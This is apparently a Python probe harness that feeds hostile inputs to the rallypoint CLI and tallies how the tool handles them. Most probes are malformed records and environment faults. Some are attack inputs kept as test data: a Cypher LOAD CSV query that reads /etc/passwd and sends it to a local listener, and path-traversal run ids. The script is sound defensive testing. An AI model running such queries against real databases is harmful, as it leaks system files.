"""Probe rallypoint as a hostile user would, and tally how each probe ends.

Each probe runs the CLI (``python -m rallypoint.cli``) on a fresh temporary folder with
``--code DIR`` on ``PYTHONPATH`` (so an older checkout can be probed for a "before"
figure) and ends in one of:

* ``clear``: a clear outcome: the bad input rejected with its reason while the rest lands,
  or one sentence and a non-zero exit, and nothing lost or leaked;
* ``traceback``: a Python traceback reached the user;
* ``silent``: the command went on as if nothing were wrong (a wrong result, a leak);
* ``lost``: something already written was lost.

Usage::

    python benchmarks/hostile_probe.py [--code DIR] [--only NAME ...] [--neo4j bolt://127.0.0.1:7687]

Probes needing a reachable Neo4j or root (a tmpfs for disk full) say so and are skipped
without them.
"""

from __future__ import annotations

import argparse
import gzip
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections import Counter
from pathlib import Path

PY = sys.executable
CODE = Path(__file__).resolve().parent.parent
NEO4J = "bolt://127.0.0.1:7687"
PROBES: dict[str, callable] = {}


def probe(func):
    PROBES[func.__name__] = func
    return func


class Skip(Exception):
    pass


def cli(*args, env=None, prefix=None, cwd=None, timeout=600):
    environment = {**os.environ, "PYTHONPATH": str(CODE), **(env or {})}
    cmd = [*(prefix or []), PY, "-m", "rallypoint.cli", *map(str, args)]
    done = subprocess.run(cmd, capture_output=True, text=True, env=environment, cwd=cwd, timeout=timeout)
    return done.returncode, done.stdout, done.stderr


def py(code: str, *, timeout=600):
    done = subprocess.run([PY, "-c", code], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "PYTHONPATH": str(CODE)})
    return done.returncode, done.stdout, done.stderr


def ended(rc, err, ok_when_zero: bool) -> str:
    """A command's class from its exit and stderr alone."""
    if "Traceback" in err:
        return "traceback"
    if rc == 0:
        return "clear" if ok_when_zero else "silent"
    return "clear" if err.strip().count("\n") <= 2 else "traceback"


def lake_rows(lake: Path, columns=("platform", "id")):
    import pyarrow.dataset as ds

    files = sorted((lake / "interactions").glob("date=*/*.parquet"))
    if not files:
        return []
    return ds.dataset([str(f) for f in files], format="parquet").to_table(columns=list(columns)).to_pylist()


def rejected_rows(lake: Path):
    import pyarrow.dataset as ds

    files = sorted((lake / "rejected").glob("*/*.parquet"))
    if not files:
        return []
    return ds.dataset([str(f) for f in files], format="parquet").to_table().to_pylist()


GOOD = [
    {"id": f"g{i}", "platform": "x", "account_id": f"a{i}", "timestamp": f"2023-01-0{i + 1}T10:00:00Z",
     "action": "post", "text": "hello"}
    for i in range(3)
]


def bad_record_probe(tmp: Path, bad_line: str, *, name="data.jsonl", fmt=None, good=GOOD) -> str:
    """One bad JSON Lines record between good ones: the good land, the bad is rejected with a reason."""
    src = tmp / "in"
    src.mkdir()
    lines = [json.dumps(good[0]), bad_line, *map(json.dumps, good[1:])]
    (src / name).write_text("\n".join(lines) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake, *(["--format", fmt] if fmt else []))
    if "Traceback" in err:
        return "traceback"
    if rc != 0:
        return "silent"  # the whole folder refused for one record
    landed = {r["id"] for r in lake_rows(lake)}
    rejected = rejected_rows(lake)
    if landed >= {g["id"] for g in good} and len(rejected) == 1 and rejected[0]["reason"]:
        return "clear"
    return "silent"


# --- 1. sealed research queries ------------------------------------------------------------
class _Listener:
    def __init__(self):
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"a,b\n")

            def log_message(self, *a):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def _neo4j_up():
    try:
        socket.create_connection(("127.0.0.1", int(NEO4J.rsplit(":", 1)[1])), 2).close()
    except OSError:
        raise Skip("no Neo4j") from None


@probe
def cypher_load_csv_exfiltration(tmp):
    return _export_calling_out(tmp, lambda port: (
        "LOAD CSV FROM 'file:///etc/passwd' AS row WITH row LIMIT 2 LOAD CSV FROM "
        f"'http://127.0.0.1:{port}/p.csv?leak='+replace(row[0],' ','_') AS x WITH x LIMIT 1 "
        "MATCH (a) RETURN a LIMIT 1"))


@probe
def cypher_load_csv_http(tmp):
    return _export_calling_out(tmp, lambda port: (
        f"LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv' AS row WITH row LIMIT 1 MATCH (a) RETURN a LIMIT 1"))


def _export_calling_out(tmp, query_for_port):
    """An export whose Cypher tries to reach a local listener: "silent" if it got through."""
    _neo4j_up()
    listener = _Listener()
    try:
        rc, out, err = cli("export", "--lake", tmp / "lake", "--out", tmp / "out", "--neo4j", NEO4J,
                           "--cypher", query_for_port(listener.port))
    finally:
        listener.close()
    if listener.hits:
        return "silent"
    return ended(rc, err, ok_when_zero=False)


@probe
def cypher_procedure_outside_allowlist(tmp):
    _neo4j_up()
    rc, out, err = cli("export", "--lake", tmp / "lake", "--out", tmp / "out", "--neo4j", NEO4J,
                       "--cypher", "CALL dbms.listConfig() YIELD name WITH name LIMIT 1 MATCH (a) RETURN a LIMIT 1")
    if rc != 0 and "refus" in err.lower() and "procedure" in err.lower():
        return "clear"
    return "traceback" if "Traceback" in err else "silent"


# --- 2. every record judged alone --------------------------------------------------------------
def _canonical(**changes):
    record = {"id": "bad1", "platform": "x", "account_id": "z", "timestamp": "2023-01-02T10:00:00Z",
              "action": "post"}
    record.update(changes)
    return json.dumps(record)


@probe
def urls_object(tmp):
    return bad_record_probe(tmp, _canonical(urls={"u": "x"}))


@probe
def hashtags_objects(tmp):
    return bad_record_probe(tmp, _canonical(hashtags=[{"t": "x"}]))


@probe
def followers_1e30(tmp):
    return bad_record_probe(tmp, _canonical().replace("}", ', "followers": 1e30}'))


@probe
def deep_nesting_second_line(tmp):
    return bad_record_probe(tmp, _canonical()[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}")


@probe
def deep_nesting_first_line(tmp):
    src = tmp / "in"
    src.mkdir()
    deep = _canonical()[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}"
    (src / "data.jsonl").write_text("\n".join([deep, *map(json.dumps, GOOD)]) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src / "data.jsonl", "--lake", lake, "--format", "jsonl")
    if "Traceback" in err:
        return "traceback"
    landed = {r["id"] for r in lake_rows(lake)}
    return "clear" if rc == 0 and landed >= {"g0", "g1", "g2"} and len(rejected_rows(lake)) == 1 else "silent"


@probe
def telegram_entity_text_null(tmp):
    src = tmp / "in"
    src.mkdir()
    chat = {"name": "c", "type": "public_channel", "id": 5, "messages": [
        {"id": i, "type": "message", "date_unixtime": str(1672650000 + i), "from": "c", "from_id": "channel5",
         "text": ["hi ", {"type": "link", "text": None if i == 2 else "https://a.example/"}]}
        for i in range(1, 5)]}
    (src / "result.json").write_text(json.dumps(chat))
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    landed = len(lake_rows(lake))
    rejected = len(rejected_rows(lake))
    return "clear" if rc == 0 and landed + rejected == 4 and landed >= 3 else "silent"


@probe
def x_v1_user_not_object(tmp):
    src = tmp / "in"
    src.mkdir()
    good = [{"created_at": "Wed Oct 10 20:19:24 +0000 2018", "id_str": str(100 + i), "text": "t",
             "user": {"id_str": "6", "screen_name": "o"}} for i in range(3)]
    bad = {"created_at": "Wed Oct 10 20:19:24 +0000 2018", "id_str": "999", "text": "t", "user": "notadict"}
    (src / "x.jsonl").write_text("\n".join(json.dumps(r) for r in [good[0], bad, *good[1:]]) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if rc == 0 and len(lake_rows(lake)) == 3 and len(rejected_rows(lake)) == 1 else "silent"


@probe
def x_v2_entities_not_object(tmp):
    src = tmp / "in"
    src.mkdir()
    good = [{"id": str(100 + i), "author_id": "6", "created_at": "2023-01-02T10:00:00Z", "text": "t"} for i in range(3)]
    bad = {"id": "999", "author_id": "6", "created_at": "2023-01-02T10:00:00Z", "text": "t",
           "entities": {"urls": "nope", "hashtags": [1, 2]}, "referenced_tweets": "x"}
    (src / "x.jsonl").write_text("\n".join(json.dumps(r) for r in [good[0], bad, *good[1:]]) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if rc == 0 and len(lake_rows(lake)) == 3 and len(rejected_rows(lake)) == 1 else "silent"


@probe
def text_is_object(tmp):
    return bad_record_probe(tmp, _canonical(text={"a": 1}))


@probe
def id_is_list(tmp):
    return bad_record_probe(tmp, _canonical(id=["a"]))


@probe
def non_object_line(tmp):
    return bad_record_probe(tmp, "[1, 2, 3]")


@probe
def one_bad_in_large_folder(tmp):
    src = tmp / "in"
    src.mkdir()
    rows = [json.dumps({"id": f"n{i}", "platform": "x", "account_id": f"a{i % 50}",
                        "timestamp": 1672650000 + i, "action": "post"}) for i in range(20_000)]
    rows.insert(10_000, _canonical(urls={"u": "x"}))
    with gzip.open(src / "big.jsonl.gz", "wt") as fh:
        fh.write("\n".join(rows) + "\n")
    (src / "other.jsonl").write_text("\n".join(map(json.dumps, GOOD)) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if rc == 0 and len(lake_rows(lake)) == 20_003 and len(rejected_rows(lake)) == 1 else "silent"


# --- 3. values that later break detect ------------------------------------------------------
@probe
def timestamp_1e15(tmp):
    return bad_record_probe(tmp, _canonical(timestamp=1e15))


@probe
def iso_year_3000(tmp):
    return bad_record_probe(tmp, _canonical(timestamp="3000-01-01T00:00:00Z"))


@probe
def epoch_253402300800(tmp):
    return bad_record_probe(tmp, _canonical(timestamp=253402300800))


@probe
def zoneless_time_without_timezone(tmp):
    # a zone-less local time must not be silently taken as UTC
    result = bad_record_probe(tmp, _canonical(timestamp="2023-01-02 10:00:00"))
    return result


@probe
def zoneless_time_with_timezone(tmp):
    src = tmp / "in"
    src.mkdir()
    (src / "a.jsonl").write_text(_canonical(timestamp="2023-01-02 10:00:00") + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake, "--timezone", "America/Sao_Paulo")
    if "Traceback" in err:
        return "traceback"
    rows = lake_rows(lake, ("id", "timestamp"))
    if rc == 0 and rows and rows[0]["timestamp"].hour == 13:
        return "clear"
    return "silent"


@probe
def same_key_other_day(tmp):
    src = tmp / "in"
    src.mkdir()
    (src / "a.jsonl").write_text(_canonical(id="k1", timestamp="2023-01-02T10:00:00Z") + "\n")
    lake = tmp / "lake"
    cli("ingest", src, "--lake", lake)
    (src / "a.jsonl").write_text(_canonical(id="k1", timestamp="2023-01-05T10:00:00Z") + "\n")
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if len(lake_rows(lake)) == 1 else "silent"


@probe
def same_key_other_day_in_one_batch(tmp):
    src = tmp / "in"
    src.mkdir()
    (src / "a.jsonl").write_text(_canonical(id="k1", timestamp="2023-01-02T10:00:00Z") + "\n"
                                 + _canonical(id="k1", timestamp="2023-01-05T10:00:00Z") + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if len(lake_rows(lake)) == 1 else "silent"


@probe
def simulate_seeds_collide(tmp):
    for seed in (1, 2):
        rc, out, err = cli("simulate", "--out", tmp / f"s{seed}", "--accounts", "300", "--days", "3",
                           "--seed", seed, "--campaigns", "none")
        if rc:
            return "traceback" if "Traceback" in err else "silent"

    def ids(folder):
        out = set()
        for f in folder.glob("interactions-*.jsonl.gz"):
            with gzip.open(f, "rt") as fh:
                out.update(json.loads(line)["id"] for line in fh)
        return out

    return "clear" if not ids(tmp / "s1") & ids(tmp / "s2") else "silent"


# --- 4/5. snapshot, unfinished runs, run ids ---------------------------------------------------
def _small_lake(tmp: Path) -> Path:
    world = tmp / "world"
    rc, out, err = cli("simulate", "--out", world, "--accounts", "300", "--days", "3", "--seed", "3")
    assert rc == 0, err
    lake = tmp / "lake"
    rc, out, err = cli("ingest", world, "--lake", lake)
    assert rc == 0, err
    return lake


@probe
def run_id_absolute_path(tmp):
    lake = _small_lake(tmp)
    target = tmp / "outside"
    rc, out, err = cli("detect", "--lake", lake, "--run-id", target)
    if target.exists():
        return "silent"
    return ended(rc, err, ok_when_zero=False)


@probe
def run_id_dotdot(tmp):
    lake = _small_lake(tmp)
    rc, out, err = cli("detect", "--lake", lake, "--run-id", "../../escaped")
    if (lake / "runs" / "../../escaped").resolve().exists():
        return "silent"
    return ended(rc, err, ok_when_zero=False)


@probe
def cleanup_spares_live_run(tmp):
    """A run folder being written by a live process (this probe) must survive another detect."""
    lake = _small_lake(tmp)
    live = lake / "runs" / "live-run"
    live.mkdir(parents=True)
    (live / "edges.parquet").write_bytes(b"in progress")
    (live / "RUNNING.json").write_text(json.dumps({"pid": os.getpid(), "host": socket.gethostname()}))
    rc, out, err = cli("detect", "--lake", lake)
    if not live.exists():
        return "lost"
    return ended(rc, err, ok_when_zero=True)


@probe
def run_records_snapshot(tmp):
    lake = _small_lake(tmp)
    rc, out, err = cli("detect", "--lake", lake, "--run-id", "r1")
    if rc:
        return ended(rc, err, ok_when_zero=True)
    run = json.loads((lake / "runs" / "r1" / "run.json").read_text())
    return "clear" if run.get("snapshot", {}).get("ingests") else "silent"


# --- 6. pseudonymized exports ------------------------------------------------------------------
@probe
def pseudonymized_export_leaks(tmp):
    code = f"""
import networkx as nx, json, pathlib
from rallypoint.graph.export import write_subgraph
g = nx.MultiDiGraph(cypher="MATCH (a:Account {{id: '4242'}}) RETURN a", run_id="r", cluster_id="c1")
g.add_node("4242", labels="Account", name="SenatorSecret", native_id="4242")
g.add_node("cluster:r:c1", labels="Cluster", reasons=["SenatorSecret (4242), high-profile, is a member"], native_id="c1")
g.add_edge("4242", "cluster:r:c1", kind="MEMBER_OF")
out = pathlib.Path({str(tmp)!r}) / "out"
write_subgraph(g, "graphml", out, key="a-researchers-secret-key-0001", parameters={{"cypher": g.graph["cypher"]}})
text = "".join(p.read_text() for p in out.iterdir())
print("LEAK" if ("SenatorSecret" in text or "4242" in text) else "OK")
"""
    rc, out, err = py(code)
    if "Traceback" in err:
        return "traceback"
    return "clear" if "OK" in out else "silent"


@probe
def pseudonym_key_blank(tmp):
    lake = _small_lake(tmp)
    cli("detect", "--lake", lake)
    rc, out, err = cli("export", "--lake", lake, "--out", tmp / "out", "--pseudonymize",
                       env={"RALLYPOINT_PSEUDONYM_KEY": " " * 16})
    return ended(rc, err, ok_when_zero=False)


@probe
def export_out_proc(tmp):
    lake = _small_lake(tmp)
    cli("detect", "--lake", lake)
    rc, out, err = cli("export", "--lake", lake, "--out", "/proc/x")
    return ended(rc, err, ok_when_zero=False)


# --- 7. the graph catches up ------------------------------------------------------------------
@probe
def neo4j_outage_catch_up(tmp):
    _neo4j_up()
    src = tmp / "in"
    src.mkdir()
    token = os.urandom(4).hex()
    (src / "a.jsonl").write_text("\n".join(
        json.dumps({**g, "id": f"{token}-{g['id']}", "account_id": f"{token}-{g['account_id']}"}) for g in GOOD) + "\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake, "--neo4j", "bolt://127.0.0.1:1")
    if "Traceback" in err:
        return "traceback"
    rc, out, err = cli("ingest", src, "--lake", lake, "--neo4j", NEO4J)
    if "Traceback" in err:
        return "traceback"
    code = f"""
from rallypoint.neo4j.connection import open_driver
with open_driver({NEO4J!r}) as d, d.session() as s:
    n = s.run("MATCH (a:Account) WHERE a.id STARTS WITH $t RETURN count(a) AS n", t={token!r}).single()["n"]
    s.run("MATCH (n) WHERE n.id STARTS WITH $t DETACH DELETE n", t={token!r})
print(n)
"""
    rc2, out2, err2 = py(code)
    return "clear" if out2.strip() == "3" else "silent"


# --- 8. environment faults ------------------------------------------------------------------
@probe
def disk_full_ingest(tmp):
    if os.geteuid() != 0:
        raise Skip("needs root for a tmpfs")
    mount = tmp / "small"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)]).returncode:
        raise Skip("cannot mount a tmpfs")
    try:
        src = tmp / "in"
        src.mkdir()
        rows = [json.dumps({"id": f"n{i}", "platform": "x", "account_id": f"a{i}", "timestamp": 1672650000 + i,
                            "action": "post", "text": os.urandom(40).hex()}) for i in range(30_000)]
        (src / "a.jsonl").write_text("\n".join(rows) + "\n")
        rc, out, err = cli("ingest", src, "--lake", mount / "lake")
        return ended(rc, err, ok_when_zero=False)
    finally:
        subprocess.run(["umount", str(mount)])


def _without_root_reading():
    """Run as root without the capabilities that let root read anything (so 000 files are unreadable)."""
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        raise Skip("needs root and setpriv to drop the read-anything capabilities")
    return ["setpriv", "--bounding-set", "-dac_override,-dac_read_search"]


@probe
def unreadable_file_in_folder(tmp):
    prefix = _without_root_reading()
    src = tmp / "in"
    src.mkdir()
    (src / "a.jsonl").write_text("\n".join(map(json.dumps, GOOD)) + "\n")
    (src / "b.jsonl").write_text("\n".join(map(json.dumps, GOOD)) + "\n")
    (src / "b.jsonl").chmod(0o000)
    rc, out, err = cli("ingest", src, "--lake", tmp / "lake", prefix=prefix)
    if "Traceback" in err:
        return "traceback"
    said = "b.jsonl" in (out + err)
    return "clear" if said else "silent"


@probe
def unreadable_subfolder(tmp):
    prefix = _without_root_reading()
    src = tmp / "in"
    (src / "hidden").mkdir(parents=True)
    (src / "a.jsonl").write_text("\n".join(map(json.dumps, GOOD)) + "\n")
    (src / "hidden" / "b.jsonl").write_text("\n".join(map(json.dumps, GOOD)) + "\n")
    os.chmod(src / "hidden", 0o000)
    rc, out, err = cli("ingest", src, "--lake", tmp / "lake", prefix=prefix)
    os.chmod(src / "hidden", 0o755)
    if "Traceback" in err:
        return "traceback"
    return "clear" if "hidden" in (out + err) else "silent"


def _damage(lake: Path, how: str) -> Path:
    f = sorted((lake / "interactions").glob("date=*/*.parquet"))[1]
    data = bytearray(f.read_bytes())
    if how == "truncate":
        data = data[: len(data) // 2]
    else:
        middle = len(data) // 3
        data[middle: middle + 2000] = os.urandom(2000)
    f.write_bytes(bytes(data))
    return f


@probe
def corrupted_lake_parquet(tmp):
    lake = _small_lake(tmp)
    damaged = _damage(lake, "overwrite")
    rc, out, err = cli("detect", "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    if rc == 0:
        return "silent"
    return "clear" if damaged.name in err else "silent"


@probe
def truncated_lake_parquet(tmp):
    lake = _small_lake(tmp)
    damaged = _damage(lake, "truncate")
    rc, out, err = cli("detect", "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if rc != 0 and damaged.name in err else "silent"


@probe
def lake_check_finds_damage(tmp):
    lake = _small_lake(tmp)
    damaged = _damage(lake, "overwrite")
    rc, out, err = cli("lake", "check", "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if rc != 0 and damaged.name in (out + err) else "silent"


# --- 9. smaller items --------------------------------------------------------------------------
@probe
def rejected_written_again(tmp):
    src = tmp / "in"
    src.mkdir()
    (src / "a.jsonl").write_text("\n".join([json.dumps(GOOD[0]), "{not json"]) + "\n")
    lake = tmp / "lake"
    cli("ingest", src, "--lake", lake)
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    return "clear" if len(rejected_rows(lake)) == 1 else "silent"


@probe
def nul_in_id(tmp):
    return bad_record_probe(tmp, _canonical(id="ab\u0000cd"))


@probe
def boolean_as_id(tmp):
    return bad_record_probe(tmp, _canonical(id=True))


@probe
def float_as_id(tmp):
    return bad_record_probe(tmp, _canonical(id=1.5))


@probe
def csv_rejection_line_numbers(tmp):
    src = tmp / "in"
    src.mkdir()
    (src / "a.csv").write_text(
        "id,platform,account_id,timestamp,action,text\n"
        'c1,x,a1,2023-01-02T10:00:00Z,post,"two\nlines"\n'
        "c2,x,a2,not-a-time,post,x\n")
    lake = tmp / "lake"
    rc, out, err = cli("ingest", src, "--lake", lake)
    if "Traceback" in err:
        return "traceback"
    rejected = rejected_rows(lake)
    return "clear" if rejected and rejected[0]["line"] == 4 else "silent"


def main() -> None:
    global CODE, NEO4J
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--code", type=Path, default=CODE, help="checkout to probe (its root goes on PYTHONPATH)")
    parser.add_argument("--only", nargs="*", default=None)
    parser.add_argument("--neo4j", default=NEO4J)
    parser.add_argument("--json", type=Path, default=None, help="also write the results here")
    args = parser.parse_args()
    CODE, NEO4J = args.code.resolve(), args.neo4j
    results: dict[str, str] = {}
    for name, func in PROBES.items():
        if args.only and name not in args.only:
            continue
        with tempfile.TemporaryDirectory(prefix=f"probe-{name}-") as tmp:
            try:
                results[name] = func(Path(tmp))
            except Skip as exc:
                results[name] = f"skipped ({exc})"
            except Exception as exc:  # noqa: BLE001 - a probe's own failure is reported, not raised
                results[name] = f"probe error ({type(exc).__name__}: {exc})"
        print(f"{name:40s} {results[name]}", flush=True)
    tally = Counter(v for v in results.values() if v in ("clear", "traceback", "silent", "lost"))
    tried = sum(tally.values())
    print(f"\ntried {tried} / clear {tally['clear']} / traceback {tally['traceback']} / "
          f"silent {tally['silent']} / lost {tally['lost']}")
    if args.json:
        args.json.write_text(json.dumps({"results": results, "tally": dict(tally), "tried": tried}, indent=2))


if __name__ == "__main__":
    main()
